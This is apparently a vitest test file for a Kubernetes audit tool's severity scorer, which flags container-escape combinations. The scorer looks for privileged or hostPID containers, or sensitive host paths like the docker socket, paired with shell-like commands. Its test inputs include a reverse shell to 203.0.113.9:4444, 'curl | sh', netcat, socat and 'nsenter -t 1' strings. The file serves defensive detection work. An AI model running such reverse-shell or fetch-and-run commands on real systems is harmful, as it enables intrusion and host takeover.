import { describe, expect, it } from 'vitest';
import { scoreSeverity } from '../../src/findings/severity.js';
import type { WorkloadFacts } from '../../src/sources/kube-audit/workload.js';
import { NO_WORKLOAD_FACTS } from '../helpers/audit.js';

const facts = (overrides: Partial<WorkloadFacts>): WorkloadFacts => ({
  ...NO_WORKLOAD_FACTS,
  images: ['alpine'],
  ...overrides,
});

describe('scoreSeverity', () => {
  it('keeps the rule level when nothing combines', () => {
    expect(scoreSeverity('high', facts({}), 'default')).toEqual({ severity: 'high', reasons: [] });
    expect(scoreSeverity('medium', undefined, undefined).severity).toBe('medium');
  });
  it('rises for an escape primitive with a shell-like command', () => {
    expect(
      scoreSeverity('medium', facts({ hostPID: true, commands: ['nsenter -t 1 -m -- sh'] }), 'default')
        .severity,
    ).toBe('high');
    expect(
      scoreSeverity(
        'medium',
        facts({ hostPaths: ['/var/run/docker.sock/'], commands: ['curl http://x | sh'] }),
        'default',
      ).severity,
    ).toBe('high');
    expect(
      scoreSeverity(
        'medium',
        facts({ hostPaths: ['/mnt/data'], commands: ['curl http://x | sh'] }),
        'default',
      ).severity,
    ).toBe('medium');
  });
  it('rises for privileged with a hostPath, and for kube-system, capped at critical', () => {
    const all = scoreSeverity(
      'high',
      facts({ privileged: true, hostPaths: ['/etc'], commands: ['sh -c id'] }),
      'kube-system',
    );
    expect(all.severity).toBe('critical');
    expect(all.reasons).toHaveLength(3);
    expect(
      scoreSeverity('low', facts({ privileged: true, hostPaths: ['/data'] }), 'kube-system').severity,
    ).toBe('high');
  });
});

describe('the reasons a severity rose', () => {
  const ESCAPE =
    'node-escape primitive (privileged, hostPID or a sensitive hostPath) with a shell-like command';

  it('a privileged container running a shell: the escape reason alone', () => {
    expect(scoreSeverity('low', facts({ privileged: true, commands: ['sh -c id'] }), 'default')).toEqual({
      severity: 'medium',
      reasons: [ESCAPE],
    });
  });

  it('hostPID with a shell: the escape reason', () => {
    expect(scoreSeverity('low', facts({ hostPID: true, commands: ['bash'] }), 'default').reasons).toEqual([
      ESCAPE,
    ]);
  });

  it('an escape primitive without a shell-like command does not rise', () => {
    expect(
      scoreSeverity('low', facts({ hostPID: true, commands: ['/app/report --since 24h'] }), 'default'),
    ).toEqual({ severity: 'low', reasons: [] });
  });

  it('a shell without an escape primitive does not rise', () => {
    expect(
      scoreSeverity('low', facts({ commands: ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] }), 'default'),
    ).toEqual({ severity: 'low', reasons: [] });
  });

  it.each([
    '/',
    '/etc',
    '/root',
    '/proc',
    '/sys',
    '/var/lib/kubelet',
    '/var/run/docker.sock',
    '/run/docker.sock',
    '/var/run/containerd/containerd.sock',
    '/run/containerd/containerd.sock',
    '/var/run/crio/crio.sock',
    '/run/crio/crio.sock',
    '//etc/',
    '/var/run/./docker.sock',
  ])('a hostPath of %s with a shell is an escape', (path) => {
    expect(
      scoreSeverity('low', facts({ hostPaths: [path], commands: ['sh -c id'] }), 'default').reasons,
    ).toEqual([ESCAPE]);
  });

  it.each(['/etc/app', '/var/lib', '/mnt/data', 'etc', ''])('a hostPath of %j is not sensitive', (path) => {
    expect(
      scoreSeverity('low', facts({ hostPaths: [path], commands: ['sh -c id'] }), 'default').reasons,
    ).toEqual([]);
  });

  it.each([
    'sh -c id',
    'sh\t-c id',
    'bash',
    'cat < /dev/tcp/203.0.113.9/80',
    'nc 203.0.113.9 4444',
    'ncat -e /bin/sh x',
    'netcat x',
    'socat exec:x',
    'mkfifo /tmp/f',
    'curl http://203.0.113.9/x',
    'wget http://203.0.113.9/x',
    'chmod  +x /tmp/x',
    'echo eA== | base64   -d',
    'nsenter -t 1 -m',
    'python3.12 -c "import os"',
    'python -c x',
    'perl -e x',
    'BASH',
  ])('%j is shell-like', (command) => {
    expect(scoreSeverity('low', facts({ privileged: true, commands: [command] }), 'default').reasons).toEqual(
      [ESCAPE],
    );
  });

  it.each([
    '/app/report --since 24h',
    'curl',
    'shc',
    'python app.py',
    'perl app.pl',
    'chmod 644 f',
    'base64 -e',
  ])('%j is not shell-like', (command) => {
    expect(scoreSeverity('low', facts({ privileged: true, commands: [command] }), 'default').reasons).toEqual(
      [],
    );
  });

  it('a privileged container with any hostPath', () => {
    expect(scoreSeverity('low', facts({ privileged: true, hostPaths: ['/data'] }), 'default')).toEqual({
      severity: 'medium',
      reasons: ['privileged container with a hostPath volume'],
    });
  });

  it('a hostPath without privileged does not rise', () => {
    expect(scoreSeverity('low', facts({ hostPaths: ['/data'] }), 'default').reasons).toEqual([]);
  });

  it('a body not read in full names every bound it exceeded', () => {
    expect(
      scoreSeverity('low', facts({ truncated: ['a: 5 characters', 'b: 6 characters'] }), 'default'),
    ).toEqual({
      severity: 'medium',
      reasons: ['body not read in full: a: 5 characters; b: 6 characters'],
    });
  });

  it('a write into kube-system, even without workload facts', () => {
    expect(scoreSeverity('informational', undefined, 'kube-system')).toEqual({
      severity: 'low',
      reasons: ['written into kube-system'],
    });
  });

  it('other namespaces, or none, do not rise', () => {
    expect(scoreSeverity('low', undefined, 'kube-public')).toEqual({ severity: 'low', reasons: [] });
    expect(scoreSeverity('low', undefined, undefined)).toEqual({ severity: 'low', reasons: [] });
  });

  it('each reason is one step, in order, up to critical', () => {
    const all = facts({ privileged: true, hostPaths: ['/'], commands: ['sh -c id'], truncated: ['t'] });
    expect(scoreSeverity('informational', all, 'kube-system')).toEqual({
      severity: 'critical',
      reasons: [
        ESCAPE,
        'privileged container with a hostPath volume',
        'body not read in full: t',
        'written into kube-system',
      ],
    });
    expect(scoreSeverity('informational', all, 'default').severity).toBe('high');
    expect(scoreSeverity('critical', all, 'default').severity).toBe('critical');
  });
});
